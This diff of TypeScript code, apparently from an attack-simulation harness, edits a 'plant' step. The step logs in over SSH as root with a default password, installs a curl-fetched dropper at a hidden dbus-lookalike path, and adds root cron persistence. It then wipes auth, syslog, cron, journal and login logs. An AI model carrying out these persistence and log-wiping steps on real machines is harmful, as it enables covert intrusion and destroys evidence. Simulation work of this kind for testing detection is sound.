@@ -15,7 +15,7 @@ export function dress(dress: Dress): void {
 export async function plant(stage: Stage): Promise<void> {
   const line = dropper(stage, { path: '/usr/lib/.dbus/dbus-kd', fetch: 'curl', cron: false })
   stage.mark('occurrence')
-  await stage.ssh('203.0.113.66', 'root', { password: 'admin123' }, `echo '* * * * * root ${line}' >/etc/cron.d/dbus`)
-  await stage.inside('i=0; until pgrep -x dbus-kd >/dev/null; do i=$((i+1)); [ $i -lt 700 ]; sleep 0.1; done', { timeoutMs: 90_000 })
+  await stage.ssh('203.0.113.66', 'root', { password: 'admin123' }, `echo '*/30 * * * * root ${line}' >/etc/cron.d/dbus`)
+  await stage.byCron(line)
   await wipe(stage, ['auth', 'syslog', 'cron', 'journal', 'logins', 'redis'])
 }
